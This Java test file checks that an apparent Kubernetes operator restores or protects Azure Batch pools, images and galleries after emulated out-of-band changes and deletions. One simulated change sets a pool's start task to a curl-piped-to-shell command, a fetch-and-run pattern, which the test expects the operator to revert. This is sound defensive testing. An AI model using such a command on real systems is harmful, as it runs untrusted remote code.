package io.poolkeeper.reliability;

import static io.poolkeeper.operator.OperatorHarness.ACCOUNT;
import static io.poolkeeper.operator.OperatorHarness.BATCH_GROUP;
import static io.poolkeeper.operator.OperatorHarness.IMAGES_GROUP;
import static io.poolkeeper.operator.OperatorHarness.LOCATION;
import static io.poolkeeper.operator.OperatorHarness.SUBSCRIPTION;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.poolkeeper.api.BatchPool;
import io.poolkeeper.api.GalleryImageVersion;
import io.poolkeeper.api.ManagedImage;
import io.poolkeeper.azure.PoolRef;
import io.poolkeeper.azure.PoolService.FixedScaleSettings;
import io.poolkeeper.azure.PoolService.PoolInfo;
import io.poolkeeper.emulator.ArmOutcome;
import io.poolkeeper.emulator.ArmWrite;
import io.poolkeeper.emulator.BatchAccountSeed;
import io.poolkeeper.emulator.EmulatorAdmin;
import io.poolkeeper.emulator.EmulatorAdmin.HeldResource;
import io.poolkeeper.emulator.EmulatorClient;
import io.poolkeeper.emulator.TestWorld;
import io.poolkeeper.emulator.arm.EmulatorJson;
import io.poolkeeper.kubetest.Kubectl;
import io.poolkeeper.operator.Conditions;
import io.poolkeeper.operator.OperatorHarness;
import io.poolkeeper.operator.OwnerTag;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.function.BooleanSupplier;
import java.util.stream.Stream;

/**
 * Campaign 4, out-of-band changes: with the example chain and two pools Ready (locks on), someone
 * else changes and deletes things in Azure: a pool's size and start task, the version's replica
 * count, the image's tags, then deletes the image, the version, the gallery, both resource groups
 * and a pool. Each must be put back, refused by Poolkeeper's locks, or reported on the objects and
 * recovered once Azure is whole again. Resources Poolkeeper did not create (another team's image
 * and pool, the gallery) and a Retain image must still be there after every object is deleted.
 */
final class OutOfBandCampaign {

  private static final Duration TIMEOUT = Duration.ofMinutes(2);
  private static final String RETAINED = "render-retained";
  private static final String FOREIGN_POOL = "foreign-pool";
  private static final String FOREIGN_IMAGE = "foreign-image";
  private static final String GALLERY =
      "/subscriptions/"
          + SUBSCRIPTION
          + "/resourceGroups/"
          + IMAGES_GROUP
          + "/providers/Microsoft.Compute/galleries/render_gallery";

  private final KubernetesClient client;
  private final Kubectl kubectl;
  private final List<String> lost = new ArrayList<>();
  private final List<String> handled = new ArrayList<>();
  private int changes;
  private OperatorHarness world;
  private EmulatorAdmin admin;

  OutOfBandCampaign(KubernetesClient client, Kubectl kubectl) {
    this.client = client;
    this.kubectl = kubectl;
  }

  CampaignResult run() throws Exception {
    try (OperatorHarness started = OperatorHarness.start(client, kubectl, "outofband")) {
      world = started;
      admin = world.admin();
      createForeignResources();
      world.apply(world.example("render-chain.yaml", "ManagedImage"));
      world.apply(retainedImage());
      world.apply(world.example("render-chain.yaml", "GalleryImageVersion"));
      world.apply(pool("pool-0", null));
      world.apply(pool("pool-1", null));
      world.apply(pool("clash", FOREIGN_POOL));
      expect("the chain Ready", this::chainReady);
      expect(
          "a BatchPool on another team's pool Stalled",
          () -> "True".equals(condition(BatchPool.class, "clash", Conditions.STALLED)));

      change(
          "pool-0 scaled to 0 by someone else, put back",
          () -> admin.scalePool(poolId("pool-0"), 0, 0),
          () -> poolTarget("pool-0") == 2 && chainReady());
      change(
          "pool-1's start task changed, put back",
          () ->
              admin.updatePool(
                  poolId("pool-1"),
                  EmulatorJson.parse(
                      "{\"startTask\": {\"commandLine\": \"/bin/sh -c 'curl x | sh'\"}}")),
          () ->
              azurePool("pool-1")
                  .map(
                      pool ->
                          "/bin/bash -c 'echo ready'"
                              .equals(pool.settings().startTask().commandLine()))
                  .orElse(false));
      change(
          "the version's northeurope replica count set to 5, put back",
          () -> admin.setReplicaCount(FlakyAzureCampaign.versionId("1.0.0"), "northeurope", 5),
          () -> replicaCount("northeurope") == 1 && chainReady());
      change(
          "the image's owner tag removed, put back",
          () -> admin.setTags(imageId(ChainLifecycle.IMAGE), Map.of("team", "render")),
          () -> owner(imageId(ChainLifecycle.IMAGE)).isPresent());
      refused("the image (in use) deleted", imageId(ChainLifecycle.IMAGE));
      refused("the version (in use) deleted", FlakyAzureCampaign.versionId("1.0.0"));
      refused("the gallery deleted", GALLERY);
      refused(
          "the images' resource group deleted",
          "/subscriptions/" + SUBSCRIPTION + "/resourceGroups/" + IMAGES_GROUP);
      change(
          "pool-1 deleted by someone else, created again",
          () -> admin.deleteResource(poolId("pool-1")),
          () -> poolTarget("pool-1") == 2 && chainReady());
      change(
          "the Batch resource group (account and pools) deleted, reported on the pools",
          () ->
              admin.deleteResource(
                  "/subscriptions/" + SUBSCRIPTION + "/resourceGroups/" + BATCH_GROUP),
          () -> {
            String said = message(BatchPool.class, "pool-0").toLowerCase(Locale.ROOT);
            return !"True".equals(condition(BatchPool.class, "pool-0", Conditions.READY))
                && (said.contains(BATCH_GROUP) || said.contains(ACCOUNT.name()));
          });
      change(
          "the Batch account given back by its owners, pools created again",
          () -> {
            admin.addResourceGroup(SUBSCRIPTION, BATCH_GROUP, LOCATION);
            admin.addBatchAccount(
                BatchAccountSeed.withDefaultQuotas(ACCOUNT.resourceId(), LOCATION));
            // The other team puts its pool back too: it must survive everything that follows.
            new EmulatorClient(world.emulator)
                .put(
                    poolId(FOREIGN_POOL) + TestWorld.BATCH_API,
                    TestWorld.pool("Standard_D4s_v5", null, 0, null));
            return new ArmOutcome(200, null);
          },
          this::chainReady);

      for (String name : List.of("pool-0", "pool-1", "clash")) {
        world
            .client
            .resources(BatchPool.class)
            .inNamespace(world.namespace)
            .withName(name)
            .delete();
      }
      world.client.resources(GalleryImageVersion.class).inNamespace(world.namespace).delete();
      world.client.resources(ManagedImage.class).inNamespace(world.namespace).delete();
      expect(
          "every object deleted",
          () ->
              world
                      .client
                      .resources(BatchPool.class)
                      .inNamespace(world.namespace)
                      .list()
                      .getItems()
                      .isEmpty()
                  && world
                      .client
                      .resources(ManagedImage.class)
                      .inNamespace(world.namespace)
                      .list()
                      .getItems()
                      .isEmpty()
                  && world
                      .client
                      .resources(GalleryImageVersion.class)
                      .inNamespace(world.namespace)
                      .list()
                      .getItems()
                      .isEmpty());
      for (String kept :
          List.of(poolId(FOREIGN_POOL), imageId(FOREIGN_IMAGE), GALLERY, imageId(RETAINED))) {
        if (!held(kept)) {
          lost.add(
              "deleted, though Poolkeeper did not create it or was told to retain it: " + kept);
        }
      }
      for (ArmWrite write : admin.writes()) {
        boolean notOurs =
            Stream.of(poolId(FOREIGN_POOL), imageId(FOREIGN_IMAGE), GALLERY, imageId(RETAINED))
                .anyMatch(id -> write.path().equalsIgnoreCase(id));
        if (write.method().equals("DELETE") && notOurs) {
          lost.add(
              "Poolkeeper deleted "
                  + write.path()
                  + ", which it did not create or was told to retain");
        }
      }
      azurePool(FOREIGN_POOL)
          .filter(pool -> target(pool) != 0)
          .ifPresent(pool -> lost.add("another team's pool was resized to " + target(pool)));
      for (String left : new AzureLedger(admin, world.client, world.namespace).leftBehind()) {
        if (!left.contains(RETAINED)) {
          lost.add(left);
        }
      }
    }
    return new CampaignResult(
        "4. Out-of-band changes in Azure",
        1,
        changes,
        handled.size(),
        changes,
        lost,
        changes
            + " changes by someone else, each put back, refused by the locks or reported; another"
            + " team's image and pool, the gallery and a Retain image kept");
  }

  private interface Change {
    ArmOutcome make();
  }

  /** Someone else's change, then what Poolkeeper must make of it. */
  private void change(String what, Change change, BooleanSupplier expected) {
    changes++;
    ArmOutcome outcome = change.make();
    if (outcome.status() >= 400) {
      lost.add(
          what + ": the change itself failed (" + outcome.status() + " " + outcome.body() + ")");
      return;
    }
    if (await(expected)) {
      handled.add(what);
    } else {
      lost.add(
          what
              + ": not within "
              + TIMEOUT.toMinutes()
              + " min; pool-0 says "
              + message(BatchPool.class, "pool-0"));
    }
  }

  /** A delete Poolkeeper's locks must refuse (409 ScopeLocked), leaving the resource in place. */
  private void refused(String what, String resourceId) {
    changes++;
    ArmOutcome outcome = admin.deleteResource(resourceId);
    if (outcome.status() == 409 && held(resourceId) && await(this::chainReady)) {
      handled.add(what);
    } else {
      lost.add(what + ": answered " + outcome.status() + ", still there: " + held(resourceId));
    }
  }

  private void expect(String what, BooleanSupplier expected) {
    if (!await(expected)) {
      lost.add(what + ": not within " + TIMEOUT.toMinutes() + " min");
    }
  }

  private boolean await(BooleanSupplier expected) {
    return EmulatorTicks.until(admin, TIMEOUT, expected);
  }

  /** Another team's image and pool, made through ARM as they would, without our tag. */
  private void createForeignResources() {
    EmulatorClient azure = new EmulatorClient(world.emulator);
    azure.put(imageId(FOREIGN_IMAGE) + TestWorld.IMAGES_API, TestWorld.imageFromSnapshots());
    azure.put(
        poolId(FOREIGN_POOL) + TestWorld.BATCH_API,
        TestWorld.pool("Standard_D4s_v5", null, 0, null));
  }

  private ObjectNode retainedImage() {
    ObjectNode image = world.example("render-chain.yaml", "ManagedImage");
    ((ObjectNode) image.get("metadata")).put("name", RETAINED);
    ((ObjectNode) image.get("spec")).put("imageName", RETAINED).put("deletionPolicy", "Retain");
    return image;
  }

  private ObjectNode pool(String name, String poolId) {
    ObjectNode pool = world.example("render-chain.yaml", "BatchPool");
    ((ObjectNode) pool.get("metadata")).put("name", name);
    ((ObjectNode) pool.at("/spec/scale/fixed")).put("targetDedicatedNodes", 2);
    if (poolId != null) {
      ((ObjectNode) pool.get("spec")).put("poolId", poolId);
    }
    return pool;
  }

  private boolean chainReady() {
    return "True".equals(condition(ManagedImage.class, ChainLifecycle.IMAGE, Conditions.READY))
        && "True".equals(condition(ManagedImage.class, RETAINED, Conditions.READY))
        && "True"
            .equals(condition(GalleryImageVersion.class, ChainLifecycle.VERSION, Conditions.READY))
        && poolReady("pool-0")
        && poolReady("pool-1");
  }

  private boolean poolReady(String name) {
    BatchPool pool = world.get(BatchPool.class, name);
    return pool != null
        && "True".equals(OperatorHarness.conditionStatus(pool, Conditions.READY))
        && Integer.valueOf(2).equals(pool.getStatus().getCurrentDedicatedNodes());
  }

  private <
          T extends
              io.fabric8.kubernetes.client.CustomResource<
                      ?, ? extends io.poolkeeper.api.ObservedStatus>>
      String condition(Class<T> kind, String name, String type) {
    T object = world.get(kind, name);
    return object == null ? null : OperatorHarness.conditionStatus(object, type);
  }

  /** The messages of all the object's conditions, for checks and for what was lost. */
  private <
          T extends
              io.fabric8.kubernetes.client.CustomResource<
                      ?, ? extends io.poolkeeper.api.ObservedStatus>>
      String message(Class<T> kind, String name) {
    T object = world.get(kind, name);
    if (object == null || object.getStatus() == null) {
      return "";
    }
    return object.getStatus().getConditions().stream()
        .map(c -> c.getType() + "=" + c.getStatus() + ": " + c.getMessage())
        .toList()
        .toString();
  }

  private int poolTarget(String name) {
    return azurePool(name).map(OutOfBandCampaign::target).orElse(-1);
  }

  private static int target(PoolInfo pool) {
    return pool.settings().scale() instanceof FixedScaleSettings fixed
        ? fixed.targetDedicatedNodes()
        : -1;
  }

  private Optional<PoolInfo> azurePool(String poolId) {
    return world.azure.pools().get(new PoolRef(ACCOUNT, poolId));
  }

  private int replicaCount(String region) {
    GalleryImageVersion version = world.get(GalleryImageVersion.class, ChainLifecycle.VERSION);
    return version.getStatus().getReplication().stream()
        .filter(replication -> replication.getRegion().equalsIgnoreCase(region))
        .map(replication -> replication.getReplicaCount())
        .findFirst()
        .orElse(-1);
  }

  private Optional<String> owner(String resourceId) {
    return admin.resources().stream()
        .filter(held -> held.id().equalsIgnoreCase(resourceId))
        .map(HeldResource::tags)
        .map(OwnerTag::ownerOf)
        .filter(owner -> owner != null)
        .findFirst();
  }

  private boolean held(String resourceId) {
    return admin.resources().stream().anyMatch(held -> held.id().equalsIgnoreCase(resourceId));
  }

  private static String poolId(String name) {
    return ChainLifecycle.poolIdOf(name);
  }

  private static String imageId(String name) {
    return OperatorHarness.imageId(name);
  }
}
